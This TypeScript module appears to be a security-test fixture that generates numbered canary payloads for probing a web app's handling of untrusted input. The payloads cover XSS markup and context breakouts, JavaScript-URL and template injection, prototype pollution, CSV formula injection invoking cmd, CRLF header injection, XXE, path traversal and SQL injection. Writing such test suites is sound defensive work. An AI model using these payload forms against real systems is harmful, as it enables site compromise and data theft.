/**
 * What people with bad intentions write into fields, names and answers. Each text carries its number:
 * one that runs calls `__hit(number)`, one that loads asks for `/__canary/number`, and whatever becomes a
 * part of a page bears the mark `data-hit`.
 */
type Make = (n: number) => string;

const run: Make = (n) => `__hit(${n})`;
const load: Make = (n) => `/__canary/${n}`;

/** Markup that runs or loads something by itself, on a tap, or with the page's next step. */
const markup: readonly Make[] = [
	(n) => `<script data-hit>${run(n)}</script>`,
	(n) => `<script data-hit src=${load(n)}></script>`,
	(n) => `<img data-hit src=${load(n)} onerror=${run(n)}>`,
	(n) => `<image data-hit src=x onerror=${run(n)}>`,
	(n) => `<svg data-hit onload=${run(n)}></svg>`,
	(n) => `<svg data-hit><script>${run(n)}</script></svg>`,
	(n) => `<svg data-hit><animate onbegin=${run(n)} attributeName=x dur=1s></svg>`,
	(n) => `<svg data-hit><a xlink:href="javascript:${run(n)}"><text y=20>tap</text></a></svg>`,
	(n) => `<svg data-hit><use href="data:image/svg+xml,<svg id=x onload=${run(n)}>#x"></svg>`,
	(n) => `<svg data-hit><foreignObject><img src=x onerror=${run(n)}></foreignObject></svg>`,
	(n) => `<math data-hit><mtext><img src=x onerror=${run(n)}></mtext></math>`,
	(n) => `<details data-hit open ontoggle=${run(n)}>x</details>`,
	(n) => `<input data-hit autofocus onfocus=${run(n)}>`,
	(n) => `<video data-hit><source onerror=${run(n)}></video>`,
	(n) => `<audio data-hit src=${load(n)} onerror=${run(n)}></audio>`,
	(n) => `<marquee data-hit onstart=${run(n)}>x</marquee>`,
	(n) => `<iframe data-hit src="javascript:parent.${run(n)}"></iframe>`,
	(n) => `<iframe data-hit srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
	(n) => `<object data-hit data=${load(n)}></object>`,
	(n) => `<embed data-hit src=${load(n)}>`,
	(n) => `<link data-hit rel=stylesheet href=${load(n)}>`,
	(n) => `<style data-hit>@import '${load(n)}';*{background:url(${load(n)})}</style>`,
	(n) => `<meta data-hit http-equiv=refresh content="0;url=${load(n)}">`,
	(n) => `<base data-hit href="${load(n)}/">`,
	(n) => `<a data-hit href="javascript:${run(n)}">tap</a>`,
	(n) => `<form data-hit action="javascript:${run(n)}"><button>tap</button></form>`,
	(n) => `<template data-hit><img src=x onerror=${run(n)}></template>`,
	(n) =>
		`<div data-hit><template shadowrootmode=open><img src=x onerror=${run(n)}></template></div>`,
	(n) => `<noscript data-hit><p title="</noscript><img data-hit src=x onerror=${run(n)}>">`,
	(n) => `<div data-hit style="background:url(${load(n)});animation:x" onanimationstart=${run(n)}>x`
];

/** Where a text might come to stand, and how it would get out of there. */
const contexts: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => `Erika ${text} Muster`,
	(text) => `">${text}`,
	(text) => `'>${text}`,
	(text) => `</title></textarea>${text}`,
	(text) => `</script>${text}`,
	(text) => `--></style>${text}<!--`,
	(text) => `]]>${text}`,
	(text) => `\u0000<\u0000${text}`,
	(text) => `\u202e${text}\u202c`,
	(text) => `\r\n\r\n${text}\r\n`,
	(text) => text.replace('<', '<x/y/'),
	(text) => text.replace(/<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}\t\n`),
	(text) => `{"answers":{"surname":"${text}"}}`
];

/** Not markup: attributes, addresses, templates, names of objects, formulas, signs that trick the eye. */
const others: readonly Make[] = [
	(n) => `" data-hit autofocus onfocus=${run(n)} x="`,
	(n) => `' data-hit autofocus onfocus=${run(n)} x='`,
	(n) => `\` onfocus=${run(n)} x=\``,
	(n) => `" style="background:url(${load(n)})" x="`,
	(n) => `javascript:${run(n)}`,
	(n) => `JaVaScRiPt:${run(n)}//`,
	(n) => `java\tscript:${run(n)}`,
	(n) => `\u0001javascript:${run(n)}`,
	(n) => `javascript://%0a${run(n)}`,
	(n) => `data:text/html,<script>parent.${run(n)}</script>`,
	(n) => `data:text/javascript,${run(n)}`,
	(n) => `vbscript:${run(n)}`,
	(n) => `blob:null/${run(n)}`,
	(n) => `//canary.invalid${load(n)}`,
	(n) => `\\\\canary.invalid${load(n)}`,
	(n) => `https://canary.invalid${load(n)}`,
	(n) => `');${run(n)};//`,
	(n) => `");${run(n)};//`,
	(n) => `\`;${run(n)};//`,
	(n) => `\${${run(n)}}`,
	(n) => `{${run(n)}}`,
	(n) => `{@html "<img data-hit src=x onerror=${run(n)}>"}`,
	(n) => `{{constructor.constructor('${run(n)}')()}}`,
	(n) => `<%= ${run(n)} %>`,
	(n) => `#{${run(n)}}`,
	(n) => `{surname} {latest} {n} {${n}}`,
	(n) => `$& $\` $' $1 $<x> ${n}`,
	() => '__proto__',
	() => 'constructor',
	() => 'prototype',
	() => 'toString',
	() => 'valueOf',
	() => 'hasOwnProperty',
	(n) => `{"__proto__":{"polluted":${n}}}`,
	(n) => `__proto__[polluted]=${n}&constructor[prototype][polluted]=${n}`,
	(n) => `=HYPERLINK("https://canary.invalid${load(n)}","tap")`,
	(n) => `+cmd|' /C calc'!A${n}`,
	(n) => `-2+3+cmd|' /C calc'!A${n}`,
	(n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
	(n) => `\t=1+${n}`,
	(n) => `\r=1+${n}`,
	(n) => `x\r\nset-cookie: hit=${n}\r\n\r\n<script data-hit>${run(n)}</script>`,
	(n) => `%0d%0aset-cookie:%20hit=${n}`,
	(n) => `\u202egnp.exe${n}\u202c`,
	(n) => `\u2066${n}\u2069\u200b\u200d\ufeff\u00ad`,
	(n) => `\ud800${n}\udfff\ufffe\uffff`,
	(n) => `\u0000${n}\u0008\u001b[31m`,
	(n) => `Z${'\u0300\u0489'.repeat(200)}${n}`,
	(n) => `${'A'.repeat(20_000)}<img data-hit src=x onerror=${run(n)}>`,
	(n) => `${'<b>'.repeat(2_000)}${n}`,
	(n) => `\uff1cscript\uff1e${run(n)}\uff1c/script\uff1e`,
	(n) => `\\u003cscript\\u003e${run(n)}\\u003c/script\\u003e`,
	(n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`,
	(n) => `&#60;img src=x onerror=${run(n)}&#62;`,
	(n) => `%3Cimg%20src=x%20onerror=${run(n)}%3E`,
	(n) => `%253Cscript%253E${run(n)}%253C/script%253E`,
	(n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`,
	(n) => `\u00bcscript\u00be${run(n)}\u00bc/script\u00be`,
	(n) => `expression(${run(n)})`,
	(n) => `};*{background:url(${load(n)})}`,
	(n) => `\\3c img src=${load(n)} \\3e`,
	(n) => `]]><!ENTITY x SYSTEM "${load(n)}">&x;`,
	(n) => `<?xml version="1.0"?><?xml-stylesheet href="${load(n)}"?>`,
	(n) => `../../../v1/health?${n}#/../../sandbox`,
	(n) => `..%2f..%2f${n}%00.html`,
	(n) => `' OR ${n}=${n} --`,
	(n) => `"><script data-hit>import('${load(n)}')</script>`,
	(n) => `<svg/data-hit/onload=${run(n)}//`,
	(n) => `<img data-hit src=x:x onerror\u000c=${run(n)}>`,
	(n) => `<<img data-hit src=x onerror=${run(n)}>`,
	(n) => `<img data-hit """><script>${run(n)}</script>">`,
	(n) => `<scr<script data-hit>ipt>${run(n)}</scr</script>ipt>`,
	(n) => `<p id=__proto__ name=cookie data-hit><form id=body name=forms>${n}`,
	(n) => `<form data-hit id=kibaliInstall><input name=prompt value=${n}></form>`,
	(n) => `<a data-hit id=trustedTypes href="cid:${n}">x</a>`,
	(n) => `<img data-hit name=currentScript src=${load(n)}>`,
	(n) => `<button data-hit popovertarget=x onclick=${run(n)}>tap</button>`,
	(n) => `<div data-hit data-sveltekit-reload data-language="${run(n)}">tap</div>`,
	(n) => `<dialog data-hit open onclose=${run(n)}><form method=dialog>`,
	(n) => `<xss data-hit contenteditable autofocus onfocus=${run(n)} tabindex=1>x</xss>`
];

/** All of them: each markup in each context, and the others. */
export const payloads: readonly string[] = [
	...contexts.flatMap((within) => markup.map((make) => (n: number) => within(make(n)))),
	...others
].map((make, n) => make(n));

/** Goes round the list, so that every place gets another one. */
export function payloadsInTurn(from = 0): () => string {
	let n = from;
	return () => payloads[n++ % payloads.length] ?? '';
}
